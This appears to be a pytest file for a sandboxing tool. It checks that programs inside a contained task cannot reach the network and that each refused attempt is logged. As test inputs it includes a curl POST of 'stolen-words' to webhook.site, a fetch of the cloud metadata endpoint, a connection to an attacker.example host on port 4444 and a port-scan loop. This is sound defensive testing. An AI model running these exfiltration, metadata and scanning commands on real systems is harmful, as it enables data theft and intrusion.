"""Nothing leaves a contained task by itself: shown by listeners outside, which see nothing.

The same program, run by the same account outside any task, reaches every one of them that this
machine has, so that each attempt is a real one.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import selectors
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.support.accounts import Account, this_account
from tests.support.live import wait_for
from tests.support.somebody import Somebody, settled

SCRIPT = Path(__file__).parents[1] / "support" / "egress_inside.py"
AF_VSOCK, VMADDR_CID_ANY = 40, 0xFFFFFFFF
STREAMS = ("tcp", "tcp6", "mapped", "mptcp", "fast_open")
DATAGRAMS = ("udp", "udp6", "dns")
RECORDED = {  # attempt → protocol it has on record; the rest has no network to be refused by
    "tcp": "tcp",
    "tcp6": "tcp",
    "mapped": "tcp",
    "mptcp": "tcp",
    "fast_open": "tcp",
    "udp": "udp",
    "udp6": "udp",
    "dns": "udp",
}


def own_address(family: int, anywhere: str) -> str:
    """An address of this machine that others would use, its loopback where it has none."""
    with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as probe:
        probe.connect((anywhere, 9))  # sends nothing
        return str(probe.getsockname()[0])
    return "127.0.0.1" if family == socket.AF_INET else "::1"


@dataclass
class Outside:
    """Listeners of every kind on this machine; `heard` is what came in, by attempt."""

    directory: Path
    ports: dict[str, int] = field(default_factory=dict)
    heard: set[str] = field(default_factory=set)
    v4: str = field(default_factory=lambda: own_address(socket.AF_INET, "192.0.2.1"))
    v6: str = field(default_factory=lambda: own_address(socket.AF_INET6, "2001:db8::1"))
    abstract: str = field(default_factory=lambda: f"taskpass-{secrets.token_hex(6)}")

    def __post_init__(self) -> None:
        self._selector = selectors.DefaultSelector()
        self._woken, self._wake = os.pipe()
        self._selector.register(self._woken, selectors.EVENT_READ)
        for name in STREAMS:
            self._listen(name, socket.AF_INET6 if name == "tcp6" else socket.AF_INET)
        for name in DATAGRAMS:
            family = socket.AF_INET6 if name == "udp6" else socket.AF_INET
            datagrams = socket.socket(family, socket.SOCK_DGRAM)
            datagrams.bind((self.v6 if name == "udp6" else self.v4, 0))
            self.ports[name] = datagrams.getsockname()[1]
            self._selector.register(datagrams, selectors.EVENT_READ, "datagram")
        self._listen_at(socket.socket(socket.AF_UNIX), "\0" + self.abstract)
        self._listen_at(socket.socket(socket.AF_UNIX), self.path)
        os.chmod(self.path, 0o666)
        self.ports["vsock"] = 9
        with contextlib.suppress(OSError):
            vsock = socket.socket(AF_VSOCK, socket.SOCK_STREAM)
            self._listen_at(vsock, (VMADDR_CID_ANY, 0xFFFFFFFF))
            self.ports["vsock"] = vsock.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def path(self) -> str:
        return str(self.directory / "outside.sock")

    def words(self) -> tuple[str, str]:
        """Arguments of `egress_inside.py`."""
        target = {"v4": self.v4, "v6": self.v6, "path": self.path, "abstract": self.abstract}
        return json.dumps(self.ports), json.dumps(target)

    def _listen(self, name: str, family: int) -> None:
        made = socket.socket(family)
        self._listen_at(made, (self.v6 if family == socket.AF_INET6 else self.v4, 0))
        self.ports[name] = made.getsockname()[1]

    def _listen_at(self, made: socket.socket, address: object) -> None:
        made.bind(address)  # type: ignore[arg-type]
        made.listen()
        self._selector.register(made, selectors.EVENT_READ, "listener")

    def _serve(self) -> None:
        while True:
            for key, _ in self._selector.select():
                if key.fd == self._woken:
                    return
                ready = key.fileobj
                assert isinstance(ready, socket.socket)
                if key.data == "listener":
                    connection, _ = ready.accept()
                    self.heard.add("a connection")
                    self._selector.register(connection, selectors.EVENT_READ, "stream")
                    continue
                data = b""
                with contextlib.suppress(OSError):
                    data = ready.recv(4096)
                known = (*STREAMS, *DATAGRAMS, "vsock", "path_socket", "abstract_socket")
                known += ("inherited",)
                found = [name for name in known if name.encode() == data.strip()]
                self.heard.update(found or (["dns"] if b"\3dns\7example" in data else []))
                if not data:
                    self._selector.unregister(ready)
                    ready.close()

    def close(self) -> None:
        os.write(self._wake, b"x")
        self._thread.join()
        for key in list(self._selector.get_map().values()):
            if isinstance(key.fileobj, socket.socket):
                key.fileobj.close()
        self._selector.close()


# What every machine lets a program do that nothing contains.
SURE = {"tcp", "mapped", "fast_open", "udp", "dns", "path_socket", "abstract_socket", "inherited"}


@pytest.fixture(scope="module", params=["root", "unprivileged"] if os.geteuid() == 0 else ["me"])
def somebody(request: pytest.FixtureRequest) -> Iterator[Somebody]:
    """A person whose tasks are in tier A: an unprivileged one, and root besides."""
    account: Account
    if request.param == "unprivileged":
        account = request.getfixturevalue("unprivileged")
    else:
        account = this_account()
    with settled(account, "A") as made:
        made.write("project/egress_inside.py", SCRIPT.read_text())
        yield made


@pytest.fixture
def outside(somebody: Somebody) -> Iterator[Outside]:
    directory = somebody.home / f"outside-{secrets.token_hex(4)}"
    directory.mkdir()
    os.chown(directory, somebody.account.uid, -1)
    listeners = Outside(directory)
    yield listeners
    listeners.close()


def test_no_way_out_of_a_contained_task(somebody: Somebody, outside: Outside) -> None:
    python = somebody.account.python
    argv = ["egress_inside.py", *outside.words()]
    with socket.create_connection((outside.v4, outside.ports["tcp"])) as open_before:
        handed = {"pass_fds": (open_before.fileno(),)}
        free = somebody.own(python, "-S", *argv, **handed)
        assert free.returncode == 0, free.stderr
        sent = {name for name, came in json.loads(free.stdout).items() if came == "sent"}
        wait_for(lambda: sent <= outside.heard, "the program outside to be heard")
        assert sent >= SURE
        outside.heard.clear()
        taskpass = (python, "-m", "supervisor.cli.main", "run", "--headless", "--")
        told = somebody.own(*taskpass, "/usr/bin/python3", "-S", *argv, **handed).stdout
    assert somebody.records("task.started")[-1]["tier"] == "A"
    contained = json.loads(told[told.index("{") : told.rindex("}") + 1])
    assert contained.keys() == json.loads(free.stdout).keys()
    # By now whatever had got out would be there: it is the same machine, and the program is over.
    assert outside.heard == set()
    for name in ("tcp", "tcp6", "mapped", "mptcp"):
        assert "refused" in contained[name], contained
    assert contained["path_socket"].startswith("FileNotFoundError")
    assert contained["abstract_socket"].startswith("ConnectionRefusedError")
    assert contained["inherited"] == "ValueError nothing was inherited"
    assert contained["vsock"] != "sent"

    records = somebody.records("egress.refused")
    seen = {(record["protocol"], record["address"], record["port"]) for record in records}
    for name, protocol in RECORDED.items():
        if name in sent:
            address = outside.v6 if name.endswith("6") else outside.v4
            assert (protocol, address, outside.ports[name]) in seen, (name, seen)


def test_a_name_asked_for_leaves_no_trace_outside(somebody: Somebody) -> None:
    script = (
        "import socket, time; began = time.monotonic(); "
        "print(socket.gethostbyname('key-0123456789.attacker.example')); "
        "assert time.monotonic() - began < 2; "
        "socket.create_connection(('key-0123456789.attacker.example', 4444), 2)"
    )
    told = somebody.inside(f'python3 -S -c "{script}"')
    assert told.startswith("198.1"), told
    assert "Connection refused" in told
    [record] = [r for r in somebody.records("egress.refused") if r["port"] == 4444]
    assert record["name"] == "key-0123456789.attacker.example"
    assert record["protocol"] == "tcp"
    assert record["call"]


def test_a_port_scan_leaves_few_records_with_every_attempt_in_them(somebody: Somebody) -> None:
    script = (
        "import socket\n"
        "for port in range(1024, 6024):\n"
        "    s = socket.socket(); s.connect_ex(('203.0.113.7', port)); s.close()\n"
    )
    before = len(somebody.records("egress.refused"))
    asked = len(somebody.records("approval.asked"))
    somebody.write("project/scan.py", script)
    somebody.inside("python3 -S scan.py")
    found = somebody.records("egress.refused")[before:]
    assert len(found) < 80
    assert sum(record["times"] for record in found) == 5000
    assert len(somebody.records("approval.asked")) == asked


def test_a_web_request_that_ignores_the_proxy_is_answered_in_words(somebody: Somebody) -> None:
    told = somebody.inside("curl -sS --noproxy '*' --max-time 10 http://169.254.169.254/latest")
    answer = json.loads(told[told.index("{") : told.rindex("}") + 1])
    assert answer["error"] == "denied"
    assert answer["hint"]
    told = somebody.inside(
        "curl -sS --noproxy '*' --max-time 10 https://webhook.site/x -d stolen-words"
    )
    answer = json.loads(told[told.index("{") : told.rindex("}") + 1])
    assert answer["error"] == "denied", told
    effects = {record["effect"] for record in somebody.records("use.denied")}
    assert {"GET 169.254.169.254/latest", "POST webhook.site/x"} <= effects


def test_a_ssh_connection_that_policy_asks_about_is_held_and_refused(somebody: Somebody) -> None:
    somebody.configure("[approvals]\ntimeout = 1\n")
    told = somebody.inside(
        'python3 -S -c "import socket\n'
        "s = socket.create_connection(('git.example', 22), 5)\n"
        'print(s.recv(10))"'
    )
    assert "Connection reset by peer" in told
    asked = somebody.records("approval.asked")[-1]
    assert asked["title"].startswith("connect git.example:22")
    denied = somebody.records("use.denied")[-1]
    assert denied["effect"] == "connect git.example:22"


# Tries until it is answered.
TRIES = (
    "import socket, sys, time\n"
    "for _ in range(100):\n"
    "    try:\n"
    "        with socket.create_connection((sys.argv[1], int(sys.argv[2])), 10) as s:\n"
    "            s.sendall(b'hello')\n"
    "            if s.recv(5): print('answered'); break\n"
    "    except OSError: pass\n"
    "    time.sleep(0.1)\n"
)


@contextlib.contextmanager
def answering(address: str, port: int = 0) -> Iterator[int]:
    """A service that answers every connection; its port."""

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = service.accept()
                with connection:
                    connection.sendall(connection.recv(100))

    with socket.create_server((address, port)) as service:
        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        try:
            yield int(service.getsockname()[1])
        finally:
            service.shutdown(socket.SHUT_RDWR)
            thread.join()


def test_a_listed_service_is_all_that_is_reached_of_the_loopback(somebody: Somebody) -> None:
    somebody.write("project/tries.py", TRIES)
    with answering("127.0.0.1") as listed, answering("127.0.0.1") as other:
        connect = f"import socket; print(socket.socket().connect_ex(('127.0.0.1', {other})))"
        told = somebody.inside(
            f'python3 -S tries.py localhost {listed}; python3 -S -c "{connect}"',
            "--loopback",
            f"localhost:{listed}",
        )
    assert told == "answered\n111\n"
    uses = {record["effect"] for record in somebody.records("use.allowed")}
    assert f"connect localhost:{listed}" in uses


@pytest.mark.root  # only root can listen at such a port
def test_what_policy_allows_finds_a_door_at_any_port(somebody: Somebody) -> None:
    """Also at a port that the account itself could not bind: it can in its task's network."""
    address = own_address(socket.AF_INET, "192.0.2.1")
    with settled(somebody.account, "A") as fresh, answering(address, 587):
        fresh.write(
            ".config/taskpass/policy/mine.cedar",
            '@id("mine/mail")\npermit (principal, action == Action::"connect", resource)\n'
            f'when {{ context.host == "{address}" && context.port == 587 }};\n',
        )
        fresh.configure(f'[network]\nallow_private = ["{address}"]\n')
        fresh.write("project/tries.py", TRIES)
        assert fresh.inside(f"python3 -S tries.py {address} 587") == "answered\n"
        assert fresh.records("approval.asked") == []
        assert {record["port"] for record in fresh.records("egress.refused")} == {587}
